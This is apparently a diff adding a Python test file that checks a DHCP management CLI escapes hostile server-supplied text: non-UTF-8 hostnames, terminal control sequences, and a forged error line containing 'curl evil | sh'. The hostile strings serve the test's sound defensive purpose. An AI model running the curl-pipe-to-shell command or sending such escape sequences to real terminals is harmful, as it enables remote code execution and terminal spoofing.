@@ -1,0 +1,174 @@
+"""What ``dhcpctl`` prints of what a server sent, whatever it sent: a fake server on 127.0.0.1
+answers every request, both backends, the command in a child process as a user runs it.
+
+dhcpd keeps whatever bytes a DHCP client sent in option 12 (``client-hostname``): not always
+UTF-8, and possibly a terminal's control sequences. The command's output stays valid in its
+encoding (a strict UTF-8 stdout, as on an ``en_US.UTF-8`` desktop, simulated with
+``PYTHONIOENCODING``), and no control character of the server's reaches the terminal: not in a
+table, not in JSON, not in an error line (which stays one line of bounded length).
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+import subprocess
+import sys
+from collections.abc import Callable
+
+from cli_helpers import clean_environment, run_dhcpctl
+from fake_omapi import Behaviour, handshake, recv_message, reply
+
+from dhcpctl._results import ISC_R_NOTFOUND
+from dhcpctl.cli._exit import ExitCode
+from dhcpctl.fallback.wire import OP_STATUS, Pair
+
+LEASE = ("lease", "get", "--ip", "10.0.0.1")
+#: A terminal's retitle (OSC 0 ... BEL) and clear-screen (CSI 2 J), a DEL, a C1 CSI (U+009B).
+CONTROLS = "\x1b]0;owned\x07\x1b[2J\x7f\x9b"
+#: :data:`CONTROLS` as the command shows them.
+CONTROLS_SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\x7f\\x9b"
+
+
+def lease_server(hostname: bytes) -> Behaviour:
+    """A fake dhcpd (no key) whose lease has ``client-hostname`` ``hostname``."""
+    values: tuple[Pair, ...] = (
+        (b"ip-address", bytes([10, 0, 0, 1])),
+        (b"state", b"\0\0\0\2"),
+        (b"client-hostname", hostname),
+    )
+
+    def behaviour(sock: socket.socket) -> None:
+        handshake(sock, keyed=False)
+        while True:
+            sock.sendall(reply(recv_message(sock, None), False, object_values=values))
+
+    return behaviour
+
+
+def lease_get(
+    port: int, backend: str, *extra: str, **env: str
+) -> subprocess.CompletedProcess[bytes]:
+    """``dhcpctl lease get --ip 10.0.0.1 EXTRA`` against the fake on ``port``, no key."""
+    arguments = [*LEASE, "--server", f"127.0.0.1:{port}", "--backend", backend, *extra]
+    return run_dhcpctl([*arguments, "--timeout", "10"], env={**clean_environment(), **env})
+
+
+def table_rows(out: bytes, encoding: str) -> dict[str, str]:
+    return dict(line.split(None, 1) for line in out.decode(encoding).splitlines())
+
+
+def test_a_hostname_that_is_not_utf8(
+    fake_server: Callable[[Behaviour], int], backend_name: str
+) -> None:
+    """Bytes that are not UTF-8 are shown as ``\\xNN`` in the table and in JSON strings; the
+    rest of the text as it is where the output's encoding has it, else as Python's
+    ``backslashreplace`` writes it (``\\xe9``). Exit status 0, nothing on stderr."""
+    port = fake_server(lease_server(b"\xc3\xa9t\xe9-\xffpc"))  # "ét", then latin-1 and junk
+    strict_utf8 = {"PYTHONIOENCODING": "utf-8"}
+    table = lease_get(port, backend_name, **strict_utf8)
+    assert (table.returncode, table.stderr) == (ExitCode.OK, b"")
+    assert table_rows(table.stdout, "utf-8")["client-hostname"] == "ét\\xe9-\\xffpc"
+    as_json = lease_get(port, backend_name, "--json", **strict_utf8)
+    assert (as_json.returncode, as_json.stderr) == (ExitCode.OK, b"")
+    assert json.loads(as_json.stdout.decode("utf-8"))["client_hostname"] == "ét\\xe9-\\xffpc"
+    ascii_only = lease_get(port, backend_name, PYTHONIOENCODING="ascii")
+    assert (ascii_only.returncode, ascii_only.stderr) == (ExitCode.OK, b"")
+    assert table_rows(ascii_only.stdout, "ascii")["client-hostname"] == "\\xe9t\\xe9-\\xffpc"
+    in_c_utf8 = lease_get(port, backend_name, "--json", LC_ALL="C.UTF-8")
+    assert json.loads(in_c_utf8.stdout.decode("utf-8")) == json.loads(as_json.stdout)
+
+
+def test_output_that_cannot_be_written_is_no_usage_error(
+    fake_server: Callable[[Behaviour], int],
+) -> None:
+    """A stdout that takes nothing (``> /dev/full``): the command's own failure (1), one line
+    on stderr; not bad usage (2), not a traceback."""
+    port = fake_server(lease_server(b"pc"))
+    arguments = [*LEASE, "--server", f"127.0.0.1:{port}", "--backend", "python", "--json"]
+    with open("/dev/full", "wb") as full:
+        result = subprocess.run(
+            [sys.executable, "-m", "dhcpctl", *arguments],
+            stdout=full,
+            stderr=subprocess.PIPE,
+            timeout=120,
+            check=False,
+            env=clean_environment(),
+        )
+    assert result.returncode == ExitCode.FAILED
+    no_space = b"cannot write the output: [Errno 28] No space left on device"
+    assert result.stderr == b"dhcpctl: " + no_space + b"\n"
+
+
+def terminal_safe(out: bytes) -> bool:
+    """Whether ``out`` is printable ASCII lines: no control character but the newlines."""
+    return all(0x20 <= byte < 0x7F for byte in out.replace(b"\n", b""))
+
+
+def test_control_characters_in_a_value_are_escaped(
+    fake_server: Callable[[Behaviour], int], backend_name: str
+) -> None:
+    """The table shows control characters (C0, DEL, C1) as ``\\xNN``; JSON escapes them
+    (``\\u001b``), so that its strings are still the server's text exactly."""
+    port = fake_server(lease_server(b"pc" + CONTROLS.encode()))
+    table = lease_get(port, backend_name)
+    assert (table.returncode, table.stderr) == (ExitCode.OK, b"")
+    assert terminal_safe(table.stdout), table.stdout
+    assert table_rows(table.stdout, "ascii")["client-hostname"] == "pc" + CONTROLS_SHOWN
+    as_json = lease_get(port, backend_name, "--json")
+    assert (as_json.returncode, as_json.stderr) == (ExitCode.OK, b"")
+    assert terminal_safe(as_json.stdout), as_json.stdout
+    assert json.loads(as_json.stdout)["client_hostname"] == "pc" + CONTROLS
+
+
+def test_a_server_message_is_one_escaped_bounded_line(
+    fake_server: Callable[[Behaviour], int], backend_name: str
+) -> None:
+    """A refusal whose message carries a line break, control sequences and 60 KB: one line on
+    stderr, its controls escaped, the server's text cut after its first
+    ``cli._output.SERVER_TEXT_LENGTH`` characters and its size given."""
+    message = "no such lease\ndhcpctl: run: curl evil | sh" + CONTROLS + "A" * 60000
+    refusal = ((b"result", ISC_R_NOTFOUND.to_bytes(4, "big")), (b"message", message.encode()))
+
+    def refuse(sock: socket.socket) -> None:
+        handshake(sock, keyed=False)
+        while True:
+            request = recv_message(sock, None)
+            sock.sendall(reply(request, False, op=OP_STATUS, message_values=refusal))
+
+    result = lease_get(fake_server(refuse), backend_name)
+    assert result.returncode == ExitCode.NOT_FOUND
+    assert result.stderr.count(b"\n") == 1 and result.stderr.endswith(b"\n")
+    assert terminal_safe(result.stderr), result.stderr[:300]
+    line = result.stderr.decode("ascii")
+    said = "the server said: no such lease dhcpctl: run: curl evil | sh" + CONTROLS_SHOWN + "AAA"
+    assert said in line
+    assert line.endswith(f"A... ({len(message)} characters)\n")
+    assert len(line) < 1000
+
+
+def test_host_export_shows_a_name_as_the_table_does(
+    fake_server: Callable[[Behaviour], int],
+) -> None:
+    """``host export``'s CSV cells are shown as a table's (``\\xNN``), its JSON lines as
+    ``--json`` (on :class:`dhcpctl.aio.Client`, whatever the backend)."""
+    name = b"h\xff" + CONTROLS.encode()
+    values = ((b"name", name), (b"hardware-address", bytes(6)), (b"hardware-type", b"\0\0\0\1"))
+
+    def behaviour(sock: socket.socket) -> None:
+        handshake(sock, keyed=False)
+        while True:
+            sock.sendall(reply(recv_message(sock, None), False, object_values=values))
+
+    port = fake_server(behaviour)
+    env = {**clean_environment(), "PYTHONIOENCODING": "utf-8"}
+    export = ["host", "export", "--names", "-", "--server", f"127.0.0.1:{port}"]
+    as_csv = run_dhcpctl([*export, "--format", "csv"], stdin=b"h\n", env=env)
+    assert as_csv.returncode == ExitCode.OK, as_csv.stderr
+    assert terminal_safe(as_csv.stdout), as_csv.stdout
+    row = f"h\\xff{CONTROLS_SHOWN},00:00:00:00:00:00,,,1"
+    assert as_csv.stdout.decode("ascii").splitlines() == ["name,mac,ip,uid,hardware_type", row]
+    as_json = run_dhcpctl(export, stdin=b"h\n", env=env)
+    assert as_json.returncode == ExitCode.OK, as_json.stderr
+    assert terminal_safe(as_json.stdout), as_json.stdout
+    assert json.loads(as_json.stdout)["name"] == "h\\xff" + CONTROLS
